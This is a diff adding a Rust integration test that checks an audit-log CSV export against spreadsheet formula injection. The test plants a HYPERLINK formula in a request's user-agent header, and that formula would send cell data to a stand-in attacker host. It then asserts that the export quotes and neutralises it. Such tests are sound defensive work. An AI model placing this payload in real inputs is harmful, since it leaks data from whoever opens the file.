@@ -440,3 +440,36 @@ async fn a_flag_is_reviewed_once_with_a_note_recording_who_and_when() {
             .any(|e| e.action == "audit.flags" && e.actor_id == cora)
     );
 }
+
+#[tokio::test]
+async fn a_formula_planted_in_the_log_is_text_in_the_csv_export() {
+    let app = spawn_app().await;
+    let mut officer = enrolled(&app, "cora@example.com", &[Role::ComplianceOfficer]).await;
+    // The attacker controls what an audit event records of its request: its user agent.
+    let planted = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+    let res = app
+        .client
+        .get(app.url("/api/v1/payment_methods/pm_x"))
+        .bearer_auth("ak_nobody.wrong")
+        .header("user-agent", planted)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 401);
+    let code = officer.code().await;
+    let form = [
+        ("action", "auth.api_key"),
+        ("format", "csv"),
+        ("code", code.as_str()),
+    ];
+    let (status, _, csv) = export(&officer, &form).await;
+    assert_eq!(status, 200, "{csv}");
+    let quoted = format!("\"'{}\"", planted.replace('"', "\"\""));
+    assert!(csv.contains(&quoted), "{csv}");
+    // No field of any line starts with a character a spreadsheet would evaluate.
+    for line in csv.lines().filter(|l| !l.starts_with('#')) {
+        for field in line.split(',') {
+            assert!(!field.starts_with(['=', '+', '@']), "{field} in {line}");
+        }
+    }
+}
